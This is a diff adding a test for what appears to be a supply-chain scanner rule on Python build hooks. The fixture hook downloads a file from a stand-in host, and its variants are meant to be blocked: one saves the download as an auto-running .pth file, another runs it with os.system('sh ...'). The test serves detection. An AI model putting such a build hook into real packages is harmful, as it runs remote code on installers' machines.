@@ -141,3 +141,30 @@ def test_fail_hooks_however_imported_and_say_what_they_do(machine):
         machine.ws(build, "execute_process(COMMAND git describe --tags)\n"
                    "run_command('python3', '-c', 'print(1)')\n")
         assert machine.run("SUP013").status is Status.PASS, build
+
+
+def test_a_hook_that_only_downloads_data_is_advice(machine):
+    """awslabs/mcp: a hatch build hook that fetches a CA bundle over https and writes it
+    for the wheel downloads data, and nothing in it runs code: advisory. The same hook
+    writing what it fetched as a `.pth` file (code every interpreter start runs), or
+    also running a command, still gates."""
+    machine.ws("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n'
+               'build-backend = "hatchling.build"\n[project]\nname = "a"\nversion = "1"\n'
+               '[tool.hatch.build.hooks.custom]\n')
+    hook = ("import os\nimport urllib.request\n"
+            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
+            "URL = 'https://truststore.x.example/global-bundle.pem'\n"
+            "class H(BuildHookInterface):\n    def initialize(self, version, data):\n"
+            "        with urllib.request.urlopen(URL, timeout=30) as r:\n"
+            "            body = r.read()\n"
+            "        with open(os.path.join('src', 'a', 'bundle.pem'), 'wb') as fh:\n"
+            "            fh.write(body)\n")
+    machine.ws("hatch_build.py", hook)
+    out = machine.run("SUP013")
+    assert out.status is Status.FAIL and out.advisory, out
+    assert [(e.line, "downloads data" in e.detail) for e in out.evidence] == [(7, True)]
+    for bad in (hook.replace("'bundle.pem'", "'zz_boot.pth'"),
+                hook + "        os.system('sh ' + 'src/a/bundle.pem')\n"):
+        machine.ws("hatch_build.py", bad)
+        out = machine.run("SUP013")
+        assert out.status is Status.FAIL and not out.advisory, (bad, out)
